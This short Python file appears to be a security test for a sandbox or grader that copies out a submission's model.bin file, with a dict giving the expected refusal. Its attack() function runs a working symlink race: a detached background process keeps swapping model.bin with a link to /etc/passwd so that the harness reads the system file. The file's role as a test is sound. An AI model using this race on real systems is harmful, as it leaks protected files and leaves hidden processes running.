"""A process that stays behind swaps the file for a link and back, as fast as it can."""

from __future__ import annotations

import os

# Whatever the copy meets, it must never be what the link leads to.
ATTACK = {"refused": "Rejected|WrongAnswer|Crashed", "at_most": 5, "lacks": "learner"}
CONTROL = {"holds": "plain"}


def attack() -> None:
    control()
    os.symlink("/etc/passwd", "/work/out/link")
    if os.fork() == 0:
        os.setsid()
        for number in (1, 2):
            os.close(number)
        while True:
            os.rename("/work/out/model.bin", "/work/out/kept")
            os.rename("/work/out/link", "/work/out/model.bin")
            os.rename("/work/out/model.bin", "/work/out/link")
            os.rename("/work/out/kept", "/work/out/model.bin")


def control() -> None:
    with open("/work/out/model.bin", "w") as file:
        file.write("plain")
